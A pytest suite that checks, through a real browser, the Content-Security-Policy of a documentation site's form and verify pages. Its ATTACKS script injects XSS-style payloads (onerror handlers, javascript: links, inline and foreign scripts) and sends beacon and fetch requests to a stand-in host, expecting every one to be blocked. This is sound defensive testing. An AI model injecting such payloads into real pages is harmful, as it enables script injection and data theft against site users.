"""The form and the verify page load from their own site only and send nothing: a policy in the page, held to by a real
browser, on a web host and from a folder, by both builders."""

from __future__ import annotations

import base64
import hashlib
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from lxml import html  # type: ignore[import-untyped]
from playwright.sync_api import Browser, Page, Route, expect

from tests.site.browser import DESKTOP, served

GUARDED = ("form", "verify")
READY = {"form": ".ws-form:not([hidden])", "verify": ".ws-verify button:enabled"}
# What somebody might bring onto the page, and what would show that it came through.
ATTACKS = """async () => {
  const broken = [];
  document.addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
  const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
  window.through = [];
  add("script", { textContent: "through.push('inline script')" });
  add("div", { innerHTML: "<img src=x onerror=\\"through.push('handler')\\">" });
  add("div", { innerHTML: "<a id=link href=\\"javascript:through.push('link')\\">x</a>" });
  document.getElementById("link").click();
  add("script", { src: "https://elsewhere.invalid/a.js", onload: () => through.push("foreign script") });
  add("link", { rel: "stylesheet", href: "https://elsewhere.invalid/a.css" });
  add("img", { src: "https://elsewhere.invalid/a.png" });
  add("iframe", { src: "https://elsewhere.invalid/" });
  add("object", { data: "https://elsewhere.invalid/a.swf" });
  add("form", { action: "https://elsewhere.invalid/", method: "post" });
  document.body.lastElementChild.submit();
  document.head.append(Object.assign(document.createElement("base"), { href: "https://elsewhere.invalid/" }));
  if (document.baseURI.includes("elsewhere")) through.push("base");
  setTimeout("through.push('text as a script')");
  navigator.sendBeacon("https://elsewhere.invalid/", "x");
  await fetch("https://elsewhere.invalid/").then(() => through.push("request"), () => null);
  // The last to be noticed is the picture that does not load.
  for (let tenths = 0; tenths < 100 && !broken.includes("script-src-attr"); tenths += 1) {
    await new Promise((done) => setTimeout(done, 100));
  }
  await new Promise((done) => setTimeout(done, 300));
  return [through, broken];
}"""
# What the page itself is allowed, and needs: a worker made of its own text.
WORKER = """() => new Promise((done, failed) => {
  const text = "onmessage = ({ data }) => postMessage(data + 1)";
  const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
  worker.onmessage = ({ data }) => done(data);
  worker.onerror = () => failed(new Error("no worker"));
  worker.postMessage(1);
})"""


def digests(page: Path) -> set[str]:
    """Of the scripts that stand in the page itself."""
    scripts = html.parse(str(page)).iter("script")
    texts = [each.text or "" for each in scripts if not each.get("src") and each.get("type") in (None, "module")]
    return {f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'" for text in texts}


def policy(page: Path) -> str:
    """What the page says it may do."""
    found = html.parse(str(page)).xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert len(found) == 1
    return str(found[0])


def test_the_scripts_in_the_page_are_the_theme_s_and_named_one_by_one(site: Path, zensical: Path) -> None:
    wanted = {each for built in (site, zensical) for name in GUARDED for each in digests(built / name / "index.html")}
    for built in (site, zensical):
        for name in GUARDED:
            told = policy(built / name / "index.html")
            assert set(re.findall(r"'sha256-[^']+'", told.partition("style-src")[0])) == wanted, (
                "docs/overrides/main.html"
            )
            assert "unsafe" not in told
            assert "*" not in told
            assert "http" not in told
            written = (built / name / "index.html").read_text("utf-8")
            assert not re.search(r"<[a-z][^>]* (?:on[a-z]+|style)=", written)
            # Before anything is loaded or run.
            assert written.index("Content-Security-Policy") < min(map(written.index, ("<script", 'rel="stylesheet"')))
    assert "Content-Security-Policy" not in (site / "index.html").read_text("utf-8")


@contextmanager
def quiet(browser: Browser, address: str, name: str) -> Iterator[Page]:
    """A guarded page, ready; whatever it complains of is a failure."""
    context = browser.new_context(viewport=DESKTOP)  # type: ignore[arg-type]
    page = context.new_page()
    wrong: list[str] = []
    page.on("console", lambda said: wrong.append(said.text) if said.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.goto(address)
    page.wait_for_selector(READY[name])
    yield page
    page.wait_for_timeout(300)
    context.close()
    assert not wrong


@pytest.mark.parametrize("name", GUARDED)
@pytest.mark.parametrize("builder", ["site", "zensical"])
def test_nothing_brought_onto_the_page_runs_or_sends(
    browser: Browser, name: str, builder: str, request: pytest.FixtureRequest
) -> None:
    sent: list[str] = []
    with served(request.getfixturevalue(builder)) as address:
        context = browser.new_context()
        page = context.new_page()
        # What the policy stops never gets as far as here.

        def asked(route: Route) -> None:
            sent.append(route.request.url)
            route.continue_()

        context.route("**/*", asked)
        page.goto(f"{address}{name}/")
        page.wait_for_selector(READY[name])
        through, broken = page.evaluate(ATTACKS)
        assert page.evaluate(WORKER) == 2
        assert page.url.startswith(f"{address}{name}/")
        context.close()
    assert through == []
    assert [each for each in sent if "elsewhere" in each] == []
    assert len(sent) > 5
    wanted = {"script-src-elem", "script-src-attr", "style-src-elem", "img-src", "frame-src", "object-src"}
    assert {*broken} >= wanted | {"form-action", "base-uri", "script-src", "connect-src"}


@pytest.mark.parametrize("name", GUARDED)
@pytest.mark.parametrize("builder", ["site", "zensical"])
def test_on_a_web_host_the_page_has_nothing_to_complain_of(
    browser: Browser, name: str, builder: str, request: pytest.FixtureRequest
) -> None:
    folder = request.getfixturevalue(builder)
    with served(folder, searched=True) as address, quiet(browser, f"{address}{name}/", name) as page:
        page.keyboard.press("/")
        page.locator("input.md-search__input:visible, input[role=combobox]").fill("课堂导入")
        page.keyboard.press("End")
        expect(page.locator('a[href*="/catalogue/A5/?h="]').first).to_be_attached()


@pytest.mark.parametrize("name", GUARDED)
def test_from_a_folder_the_page_has_nothing_to_complain_of_and_finds_things(
    browser: Browser, offline: Path, name: str
) -> None:
    with quiet(browser, (offline / name / "index.html").as_uri(), name) as page:
        page.locator(".md-search__input").press_sequentially("伴随性")
        expect(page.locator(".md-search-result__meta")).not_to_contain_text("初始化")
        page.keyboard.press("End")  # what was typed before the index was there is looked for now
        found = page.locator(".md-search-result__item").filter(has_text="A12").first
        expect(found).to_be_attached()
